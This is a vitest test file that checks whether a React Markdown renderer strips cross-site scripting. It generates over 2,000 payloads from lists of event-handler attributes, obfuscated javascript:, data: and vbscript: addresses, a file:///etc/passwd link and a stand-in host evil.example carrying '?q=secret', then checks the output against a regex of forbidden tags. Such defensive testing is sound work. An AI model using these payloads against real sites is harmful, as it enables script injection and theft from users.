import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { pageKit } from '../../store/page.test-kit.js';
import { StoreProvider } from '../../store/store-context.js';
import { Markdown } from './Markdown.js';

const SCRIPT = 'alert(1)';
const FAR = 'https://evil.example/?q=secret';

/** Elements that would run or load something. */
const ELEMENTS =
  'img video audio source track input body svg image use iframe embed frame object link style meta base form button math details marquee template script noscript a'.split(
    ' ',
  );
/** What is written into them. */
const ATTRIBUTES = [
  `onerror=${SCRIPT}`,
  `onload="${SCRIPT}"`,
  `autofocus onfocus='${SCRIPT}'`,
  `src="javascript:${SCRIPT}"`,
  `href=javascript:${SCRIPT}`,
  `src="${FAR}"`,
  `style="background:url(${FAR})"`,
  `srcdoc="<script>${SCRIPT}</script>"`,
  `formaction=javascript:${SCRIPT}`,
  `http-equiv=refresh content="0;url=${FAR}"`,
];
/** Addresses in the ways in which a scheme is hidden. */
const ADDRESSES = [
  `javascript:${SCRIPT}`,
  `JaVaScRiPt:${SCRIPT}`,
  `java\tscript:${SCRIPT}`,
  `&#106;avascript:${SCRIPT}`,
  `javascript&colon;${SCRIPT}`,
  `\u0001javascript:${SCRIPT}`,
  `data:text/html,<script>${SCRIPT}</script>`,
  `data:image/svg+xml,<svg onload=${SCRIPT}>`,
  `vbscript:${SCRIPT}`,
  'file:///etc/passwd',
  'blob:null/x',
  '//evil.example/x',
];
/** Where a payload stands in a text. */
const PLACES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `text ${payload} text`,
  (payload) => `- item\n\n  ${payload}\n`,
  (payload) => `> ${payload}`,
  (payload) => `| a |\n| --- |\n| ${payload} |`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\``,
];
const IN_LINKS: readonly ((address: string) => string)[] = [
  (address) => `[press](${address})`,
  (address) => `[press](<${address}>)`,
  (address) => `![see](${address})`,
  (address) => `[press][a]\n\n[a]: ${address}`,
  (address) => `<${address}>`,
  (address) => `[![see](${address})](${address} "x onmouseover=${SCRIPT}")`,
];

/** Payloads that are shown as one text: each alone takes long. */
const AT_ONCE = 30;

const PAYLOADS = [
  ...ELEMENTS.flatMap((name) => ATTRIBUTES.map((more) => `<${name} ${more}>x</${name}>`)),
  ...ADDRESSES.flatMap((address) => IN_LINKS.map((link) => link(address))),
].flatMap((payload) => PLACES.map((place) => place(payload)));

function rendered(text: string): string {
  return renderToStaticMarkup(
    <StoreProvider store={pageKit().store}>
      <Markdown text={text} />
    </StoreProvider>,
  );
}

/** The elements that came of a text, and what they have. */
function elementsOf(html: string): readonly string[] {
  return Array.from(html.matchAll(/<[a-z][^>]*>/giu), ([tag]) => tag);
}

const FORBIDDEN =
  /^<(?:script|iframe|frame|object|embed|img|image|video|audio|source|track|link|style|meta|base|form|math|use|template|body)\b|\s(?:on\w+|src|srcset|srcdoc|action|formaction|data|poster|background|xlink:href)=|url\(/iu;

/** Has a scheme that is not of the web or of mail. Without one it leads nowhere: the app has no such page. */
function leadsElsewhere(address: string): boolean {
  // As a browser reads it: without blanks and control characters.
  const read = address.replaceAll(/[^!-~]/gu, '');
  return /^[a-z][a-z\d+.-]*:/iu.test(read) && !/^(?:https?|mailto):/iu.test(read);
}

describe('texts from outside', () => {
  it('of 2,000 that hide a script or an address make no element that runs or loads', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(2000);
    for (let at = 0; at < PAYLOADS.length; at += AT_ONCE) {
      const text = PAYLOADS.slice(at, at + AT_ONCE).join('\n\n');
      const elements = elementsOf(rendered(text));
      const addresses = elements.flatMap((tag) => / href="([^"]*)"/u.exec(tag)?.[1] ?? []);
      expect(
        elements.filter((tag) => FORBIDDEN.test(tag)),
        text,
      ).toEqual([]);
      expect(
        addresses.filter((address) => leadsElsewhere(address)),
        text,
      ).toEqual([]);
    }
  });
});
